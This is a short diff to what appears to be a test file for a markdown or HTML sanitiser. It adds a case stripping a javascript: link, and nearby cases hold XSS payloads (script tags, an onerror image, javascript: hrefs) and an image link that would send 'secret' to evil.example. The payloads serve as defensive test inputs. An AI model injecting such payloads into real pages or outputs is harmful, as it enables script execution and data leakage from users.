@@ -82,6 +82,7 @@ def test_lists_headings_tables_and_code():
         ("Lit. ![x](https://evil.example/?q=secret)", "Lit."),
         ("Lit. ![x][1]", "Lit."),
         ("See [here](https://evil.example).", "See here."),
+        ("See [details](javascript:alert('x')).", "See details."),
         ("Lit.<img src=x onerror=alert(1)>", "Lit."),
         ("Lit. <script>alert(1)</script>", "Lit."),
         ("Lit. <a href='javascript:alert(1)'>x</a>", "Lit. x"),
